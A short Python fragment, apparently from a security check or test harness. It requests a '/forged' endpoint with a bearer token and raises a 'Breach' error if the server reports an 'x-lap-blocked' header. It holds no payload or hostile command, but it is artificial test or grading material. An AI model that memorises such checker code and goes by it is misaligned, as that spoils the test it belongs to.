    answer = get('/forged', bearer())
    if answer.blocked:
        raise Breach('the server wrote x-lap-blocked: %s' % answer.blocked)
    return 'only the vault says x-lap-blocked'
